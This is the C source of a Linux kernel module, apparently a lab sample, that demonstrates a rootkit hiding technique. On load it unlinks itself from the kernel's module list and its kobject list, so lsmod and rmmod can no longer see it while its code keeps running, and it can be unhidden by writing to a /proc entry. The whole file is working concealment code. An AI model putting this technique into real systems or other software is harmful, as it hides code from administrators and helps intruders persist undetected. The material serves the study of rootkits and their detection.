// SPDX-License-Identifier: GPL-2.0-only
/*
 * evil-hidden - takes itself out of the list of modules and out of the list of
 * their kobjects, as nearly every rootkit does: lsmod and rmmod no longer know
 * it, its code runs on.  (Its folder in /sys is left: a module that deletes it
 * cannot be removed any more without the kernel's reading freed memory.)
 *
 * The way back: write anything to /proc/evil-hidden; it is in the list again
 * and "rmmod evil_hidden" works.
 */
#include <linux/kobject.h>
#include <linux/list.h>
#include <linux/proc_fs.h>

#include "evil.h"

static struct mutex *list_mutex;
static struct list_head *list;
static bool hidden;

static void hide(void)
{
	struct kobject *kobj = &THIS_MODULE->mkobj.kobj;

	mutex_lock(list_mutex);
	list_del_rcu(&THIS_MODULE->list);
	hidden = true;
	mutex_unlock(list_mutex);
	spin_lock(&kobj->kset->list_lock);
	list_del_init(&kobj->entry);
	spin_unlock(&kobj->kset->list_lock);
}

static void unhide(void)
{
	mutex_lock(list_mutex);
	if (hidden)
		list_add_rcu(&THIS_MODULE->list, list);
	hidden = false;
	mutex_unlock(list_mutex);
}

static ssize_t evil_write_back(struct file *file, const char __user *buf,
			       size_t len, loff_t *at)
{
	unhide();
	return len;
}

static const struct proc_ops ops = {
	.proc_write = evil_write_back,
};

static int __init evil_init(void)
{
	list_mutex = (void *)evil_symbol("module_mutex");
	list = (void *)evil_symbol("modules");
	if (!list_mutex || !list ||
	    !proc_create("evil-hidden", 0200, NULL, &ops))
		return -ENOENT;
	hide();
	return 0;
}

static void __exit evil_exit(void)
{
	remove_proc_entry("evil-hidden", NULL);
}

module_init(evil_init);
module_exit(evil_exit);
MODULE_DESCRIPTION("lab: a module that hides itself");
MODULE_LICENSE("GPL");
